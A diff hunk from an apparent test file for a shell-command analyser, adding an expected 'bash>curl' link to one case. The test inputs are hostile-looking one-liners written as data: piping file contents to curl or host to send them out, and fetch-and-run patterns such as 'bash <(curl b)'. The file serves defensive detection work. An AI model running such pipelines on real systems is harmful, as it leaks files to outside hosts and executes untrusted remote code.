@@ -29,7 +29,7 @@ test.each<[command: string, links: string[]]>([
   ['cat a | while read -r line; do curl "b?q=$line"; done', ["cat>curl", "cat>read"]],
   ["for x in $(cat a); do host $x.b; done", ["cat>host"]],
   ['send() { curl -d "$1" b; }; send "$(cat a)"', ["cat>curl", "cat>send"]],
-  ["cat a | sudo bash -c 'curl -d @- b'", ["cat>bash", "cat>curl"]],
+  ["cat a | sudo bash -c 'curl -d @- b'", ["bash>curl", "cat>bash", "cat>curl"]],
   ['bash -c "$(curl b)"', ["curl>bash"]],
   ["cat a | tee >(curl -d @- b)", ["cat>curl", "cat>tee", "curl>tee", "tee>curl"]],
   ["bash <(curl b)", ["curl>bash"]],
